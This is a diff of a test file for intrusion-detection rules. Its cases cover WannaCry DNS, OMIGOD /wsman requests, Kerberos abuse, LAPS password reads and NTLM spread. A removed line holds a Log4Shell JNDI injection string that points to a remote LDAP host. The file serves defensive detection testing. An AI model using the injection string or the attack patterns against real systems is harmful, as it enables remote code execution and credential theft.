@@ -38,23 +38,17 @@ DC = {"ward.asset_class": "software.directory"}
 NAMED_DC = {"ward.asset": "dc-1", "ward.asset_class": "device.computer.server"}
 SERVER = {"ward.asset_class": "device.computer.server"}
 NTLM = {**login("smb", method="ntlm", outcome="ok"), "user": "u-1"}
-HTTP = {"class": "net.http", "http.method": "GET", "uri": "/"}
+WSMAN = {"class": "net.http", "http.method": "POST", "uri": "/wsman", "http.status": 200}
 # rule, events that it finds, events that it does not
 CASES = [
     ("dns_wannacry",
      [{"class": "net.dns.query", "dns.query": "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"}],
      [{"class": "net.dns.query", "dns.query": "www.example.com"}]),
-    ("http_log4shell", [{**HTTP, "http.lookup": "${jndi:ldap://198.51.100.7/a}"}],
-     [{**HTTP, "http.lookup": "${title}"}]),
-    ("http_omigod", [{**HTTP, "http.method": "POST", "uri": "/wsman", "http.request_headers": ["Host"],
-                      "http.status": 200}],
-     [{**HTTP, "http.method": "POST", "uri": "/wsman",
-       "http.request_headers": ["Host", "Authorization"], "http.status": 200}]),
+    ("http_omigod", [{**WSMAN, "http.request_headers": ["Host"]}],
+     [{**WSMAN, "http.request_headers": ["Host", "Authorization"]}]),
     ("kerberos_no_pac", [{"class": "net.kerberos.as_rep", "kerberos.pac_requested": False}],
      [{"class": "net.kerberos.as_rep", "kerberos.pac_requested": True}]),
     ("kerberos_s4u", [tgs(s4u="self")], [{**tgs(s4u="self"), **SERVER}]),
-    ("ldap_cleartext", [login("ldap", method="password", outcome="ok", cleartext=True)],
-     [login("ldap", method="kerberos", outcome="ok")]),
     ("ldap_laps", [{"class": "net.ldap.search", "ldap.attribute": ["cn", "ms-Mcs-AdmPwd"]}],
      [{"class": "net.ldap.search", "ldap.attribute": ["cn", "mail"]}]),
     ("ntlm_many_hosts", many(10, NTLM, "dst_ip", "10.1.2.{}"),
